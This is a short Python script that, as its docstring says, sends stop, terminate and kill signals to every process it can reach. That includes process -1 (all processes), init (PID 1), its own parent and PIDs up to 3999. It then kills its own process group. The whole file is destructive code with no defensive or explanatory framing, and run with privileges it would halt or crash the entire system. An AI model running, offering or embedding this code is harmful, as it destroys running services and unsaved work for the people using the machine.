"""Sends signals to every process there is."""

import os

for number in (19, 15, 9):
    for process in [-1, 1, os.getppid(), 0, *range(2, 4000)]:
        if process not in (0, os.getpid()):
            try:
                os.kill(process, number)
            except OSError:
                continue
os.kill(0, 9)
